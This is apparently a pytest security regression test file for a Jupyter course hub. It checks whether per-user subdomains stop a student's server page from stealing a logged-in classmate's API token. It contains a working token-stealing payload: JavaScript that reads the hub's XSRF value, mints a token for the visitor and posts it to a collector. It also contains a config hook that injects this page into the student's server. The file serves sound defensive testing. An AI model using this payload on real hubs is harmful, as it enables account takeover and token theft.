"""An origin per user: a student's own server pages cannot act as a visitor on the hub (issue 16, item 1).

The exploit: a student adds a page to their own server (here through ~/.jupyter/jupyter_server_config.py
on hubs that load user config; see OWN_SERVER), restarts it, and sends the link to a logged-in
classmate; the page's script reads the hub's XSRF value, creates an API token for the visitor and
sends it back to the student's server.

Every test hub has subdomains unless it says otherwise (the product's default), so logins, launch,
tmplogin and nbgitpuller links, the Binder API and thebe, SSO and LTI, the status page and the load
test are checked on users' own origins by their own modules; this one attacks the session's default
hub's defaults, and starts one hub more for the shared origin an admin may still choose.
"""

from __future__ import annotations

import textwrap
from urllib.parse import urlsplit

import pytest
import requests
from conftest import wait_for

pytestmark = [pytest.mark.hub, pytest.mark.browser]

# A server extension, as any student may write: an unauthenticated page that, opened by someone logged
# in to the hub, asks the hub for a token of the visitor and keeps it.
STEALER = '''
import json, os
from tornado import web
from jupyter_server.utils import url_path_join

LOOT = os.path.expanduser("~/loot.json")
PAGE = """<!doctype html><title>homework</title><script>
const hub = %s;
async function steal() {
  const page = await (await fetch(hub + "/hub/token", {credentials: "include"})).text();
  const xsrf = page.match(/xsrf_token: "([^"]+)"/)[1];
  const user = page.match(/user: "([^"]+)"/)[1];
  const made = await fetch(hub + "/hub/api/users/" + user + "/tokens", {
    method: "POST", credentials: "include",
    headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
    body: JSON.stringify({note: "homework"}),
  });
  const token = (await made.json()).token;
  await fetch("collect", {method: "POST", body: JSON.stringify({user: user, token: token})});
}
steal().catch(e => { document.body.dataset.error = String(e); })
       .finally(() => { document.title = "done"; });
</script>"""


class Page(web.RequestHandler):
    def get(self):
        self.finish(PAGE % json.dumps(os.environ.get("JUPYTERHUB_HOST", "")))


class Collect(web.RequestHandler):
    def check_xsrf_cookie(self):
        pass

    def post(self):
        with open(LOOT, "w") as f:
            f.write(self.request.body.decode())

    def get(self):
        self.finish(open(LOOT).read() if os.path.exists(LOOT) else "{}")


def _load_jupyter_server_extension(app):
    base = app.web_app.settings["base_url"]
    app.web_app.add_handlers(".*$", [
        (url_path_join(base, "homework"), Page),
        (url_path_join(base, "collect"), Collect),
    ])
'''

# Config files are Python: this one adds the page when the server builds its web app.
CONFIG = """
import os, sys
sys.path.insert(0, os.path.expanduser("~/.jupyter"))
import stealer
from jupyter_server.serverapp import ServerApp
_init_webapp = ServerApp.init_webapp
def init_webapp(self):
    _init_webapp(self)
    stealer._load_jupyter_server_extension(self)
ServerApp.init_webapp = init_webapp
"""


def plant_stealer(hub, student: str, token: str) -> str:
    """The student's own config adds the page; the server restarted; the page's URL."""
    code = textwrap.dedent(f"""
        import os
        os.makedirs(os.path.expanduser("~/.jupyter"), exist_ok=True)
        open(os.path.expanduser("~/.jupyter/stealer.py"), "w").write({STEALER!r})
        open(os.path.expanduser("~/.jupyter/jupyter_server_config.py"), "w").write({CONFIG!r})
    """)
    hub.spawn(student, token)
    hub.run(student, token, code)
    hub.api().stop_server(student)
    wait_for(lambda: not hub.api().json("GET", f"users/{student}")["servers"], what="the stop")
    url = hub.spawn(student, token)
    page = requests.get(url + "homework", timeout=30)
    assert page.status_code == 200 and "steal()" in page.text, "the student's page is not served"
    return url


def visit(hub, browser, visitor: str, url: str) -> dict:
    """The visitor logs in to the hub in Chromium, then opens the student's link; what the page sent home."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.goto(hub.url + "hub/login?next=%2Fhub%2Fhome")
    page.fill("input[name=username]", visitor)
    page.fill("input[name=password]", hub.passwords[visitor])
    page.click("input[type=submit], button[type=submit]")
    page.wait_for_url("**/hub/home")
    page.goto(url + "homework")
    page.wait_for_function("document.title === 'done'")
    context.close()
    return requests.get(url + "collect", timeout=30).json()


def answers_as(hub, token: str | None) -> str | None:
    """The name the hub's API knows `token` by, or None."""
    if not token:
        return None
    response = requests.get(hub.url + "hub/api/user", headers={"Authorization": f"token {token}"}, timeout=30)
    return response.json()["name"] if response.status_code == 200 else None


def needs_subdomains(hub) -> None:
    """Skip where COURSEHUB_TEST_SUBDOMAINS=0 took the default hub's subdomains away."""
    if not hub.subdomains:
        pytest.skip("COURSEHUB_TEST_SUBDOMAINS=0: the session hub has no subdomains")


# The page needs the student's code in their server process. Servers ignore ~/.jupyter (user config
# is off), but a student still controls their own server: their kernels run as the same user in the
# same sandbox and can ptrace it. The test takes the short way there: these hubs load user config.
OWN_SERVER = {"Spawner": {"disable_user_config": False}}


@pytest.fixture(scope="module")
def default_hub(make_hub_module):
    """A hub on the default config (subdomains on), but for servers loading the student's own config."""
    return make_hub_module(jupyterhub=OWN_SERVER)


@pytest.fixture(scope="module")
def shared_origin_hub(make_hub_module):
    """`hub.subdomains: false`, an admin's explicit choice (servers load user config, as above)."""
    return make_hub_module(hub={"subdomains": False}, jupyterhub=OWN_SERVER)


def host_of(url: str) -> str:
    return urlsplit(url).netloc


def test_a_students_page_cannot_take_a_visitors_token(default_hub, browser):
    """The attack of issue 16 against a hub on the default origins."""
    hub = default_hub
    needs_subdomains(hub)
    student, visitor = hub.create_accounts("org", 2)
    url = plant_stealer(hub, student, hub.token_for(student))
    assert host_of(url) == f"{student}.localhost:{hub.port}"
    loot = visit(hub, browser, visitor, url)
    assert answers_as(hub, loot.get("token")) != visitor, "the student's page took the visitor's token"
    assert "hub.subdomains is off" not in hub.log()


def test_without_subdomains_a_students_page_takes_a_visitors_token(shared_origin_hub, browser):
    """What docs/security.md says a hub without subdomains allows (and `up` warns about)."""
    hub = shared_origin_hub
    student, visitor = hub.create_accounts("shr", 2)
    url = plant_stealer(hub, student, hub.token_for(student))
    assert host_of(url) == f"127.0.0.1:{hub.port}"
    loot = visit(hub, browser, visitor, url)
    assert answers_as(hub, loot.get("token")) == visitor
    assert "hub.subdomains is off" in hub.log()  # `coursehub up` warned


def test_servers_and_launch_links_are_on_their_users_hosts(fork_hub):
    hub = fork_hub
    needs_subdomains(hub)
    (name,) = hub.create_accounts("sub", 1)
    token = hub.token_for(name)
    url = hub.spawn(name, token)
    model = hub.api().json("GET", f"users/{name}")
    assert model["servers"][""]["url"] == url == f"http://{name}.localhost:{hub.port}/user/{name}/"
    assert hub.run(name, token, "print(6 * 7)").strip() == "42"
    session = hub.login(name)
    # The old address under the hub's origin sends the browser on to the user's own host.
    moved = session.get(hub.url + f"user/{name}/lab", timeout=60)
    assert moved.status_code == 200 and moved.url.startswith(url + "lab"), moved.url
    # Another user's host does not serve this server.
    (other,) = hub.create_accounts("sbo", 1)
    elsewhere = f"http://{other}.localhost:{hub.port}/user/{name}/api/status"
    response = requests.get(elsewhere, headers={"Authorization": f"token {token}"}, allow_redirects=False)
    assert response.status_code != 200
    # A course's launch link: once its server runs, straight to the user's host (logged in there by OAuth).
    assert session.get(hub.url + "hub/launch/demo", timeout=120).status_code == 200
    wait_for(
        lambda: hub.api().json("GET", f"users/{name}")["servers"].get("demo", {}).get("ready"),
        timeout=180,
        what="the demo course server",
    )
    lab = session.get(hub.url + "hub/launch/demo?path=welcome.ipynb", timeout=120)
    assert lab.status_code == 200 and "JupyterLab" in lab.text
    assert lab.url.startswith(hub.server_url(name, "demo") + "lab/tree/demo/welcome.ipynb"), lab.url
